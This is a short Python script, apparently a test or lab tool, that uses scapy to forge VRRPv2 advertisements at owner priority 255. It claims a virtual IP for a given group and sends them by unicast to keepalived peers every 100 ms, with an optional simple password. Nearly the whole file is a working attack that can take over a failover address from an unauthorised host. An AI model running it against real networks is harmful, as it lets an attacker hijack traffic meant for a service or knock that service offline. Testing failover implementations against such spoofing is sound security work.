"""Runs on a stranger: forged VRRPv2 adverts that claim a VIP, sent by unicast.

    python3 forge_vrrp.py VRID VIP PASSWORD SECONDS TARGET...

Sends, every 100 ms for SECONDS, an advert of priority 255 (the address
owner's) for VRID and VIP, with VRRPv2's simple PASSWORD ('' for none), from
this host's own address to each TARGET, as a node in unicast mode sends them
to its peers. Apart from its source address, each advert is one that a
keepalived of the group accepts. Prints how many it sent. Needs NET_RAW and
Debian's python3-scapy.
"""

from __future__ import annotations

import sys
import time

from scapy.all import IP, conf
from scapy.layers.vrrp import VRRP

# RFC 3768: auth type 1 is the simple password, 8 bytes padded with zeros.
AUTH_NONE, AUTH_SIMPLE = 0, 1


def main() -> int:
    vrid, vip, password, seconds, targets = int(sys.argv[1]), sys.argv[2], sys.argv[3], float(sys.argv[4]), sys.argv[5:]
    key = password.encode().ljust(8, b"\0")[:8]
    advert = VRRP(version=2, type=1, vrid=vrid, priority=255, authtype=AUTH_SIMPLE if password else AUTH_NONE,
                  adv=1, addrlist=[vip], auth1=int.from_bytes(key[:4], "big"), auth2=int.from_bytes(key[4:], "big"))
    # A receiver in unicast mode checks neither TTL nor destination beyond "not multicast".
    packets = [IP(dst=target, ttl=255) / advert for target in targets]
    sock = conf.L3socket()
    sent = 0
    deadline = time.monotonic() + seconds
    try:
        while time.monotonic() < deadline:
            for packet in packets:
                sock.send(packet)
                sent += 1
            time.sleep(0.1)
    finally:
        sock.close()
    print(sent)
    return 0 if sent else 1


if __name__ == "__main__":
    sys.exit(main())
